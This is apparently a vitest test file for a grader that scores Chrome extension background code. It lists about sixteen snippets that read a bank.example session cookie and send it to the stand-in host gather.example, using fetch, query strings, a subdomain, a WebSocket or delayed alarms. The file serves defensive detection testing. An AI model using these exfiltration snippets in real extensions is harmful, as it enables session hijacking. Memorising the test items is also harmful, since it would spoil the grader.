import { describe, expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

const ASKED = "{ url: 'https://www.bank.example/', name: 'sid' }";

/** One cookie is read, and something done with it. */
const read = (does: string, before = ''): string => `${before} chrome.cookies.get(${ASKED}, (c) => { ${does} });`;

const post = (body: string): string => `fetch('https://gather.example/', { method: 'POST', body: ${body} });`;

describe('a cookie', () => {
  it.each([
    ['whole', read(post('JSON.stringify(c)'))],
    ['by its value', read("fetch('https://gather.example/?' + c.value);")],
    ['by a name that is taken apart', `chrome.cookies.get(${ASKED}, ({ value: v }) => { ${post('v')} });`],
    ['by what is left', `chrome.cookies.get(${ASKED}, ({ name, ...rest }) => { ${post('JSON.stringify(rest)')} });`],
    ['by its values', read(post('Object.values(c).join()'))],
    ['by its pairs', read(`for (const [k, v] of Object.entries(c)) ${post('k + v')}`)],
    ['by each of its names', read(`let t = ''; for (const k in c) t += c[k]; ${post('t')}`)],
    ['by names of a list', read(`for (const k of ['name', 'value']) ${post('c[k]')}`)],
    ['in another object', read(post('JSON.stringify({ ...c, at: 1 })'))],
    ['copied over', read(`const o = {}; Object.assign(o, c); ${post('JSON.stringify(o)')}`)],
    ['in a list', read(`all.push(c); ${post('JSON.stringify(all)')}`, 'const all = [];')],
    ['through a socket', read('ws.send(JSON.stringify({ c }));', "const ws = new WebSocket('wss://gather.example/');")],
    ['as a part of the host', read("fetch('https://' + c.value + '.gather.example/');")],
    [
      'out of many answers',
      `(async () => { const all = await Promise.all(['sid', 'key'].map((name) => chrome.cookies.get({ url: 'https://www.bank.example/', name }))); ${post('JSON.stringify(all)')} })();`,
    ],
    [
      'through a helper',
      `const ask = (d) => new Promise((ok) => chrome.cookies.get(d, ok)); ask(${ASKED}).then((c) => { ${post('JSON.stringify({ v: c })')} });`,
    ],
    [
      'kept before',
      `${read('chrome.storage.local.set({ c });')} chrome.alarms.onAlarm.addListener(async () => { const { c } = await chrome.storage.local.get('c'); ${post('c.value')} });`,
    ],
  ])('is sent %s', async (_, background) => {
    expect(await graded({ background })).toBe('F');
  });

  it.each([
    ['whose site is asked', "fetch('https://' + c.domain + '/me');"],
    ['whose name and end are told', post('c.name + c.expirationDate')],
  ])('is not sent where it is one %s', async (_, does) => {
    expect(await graded({ background: read(does) })).toMatch(/^A/);
  });
});
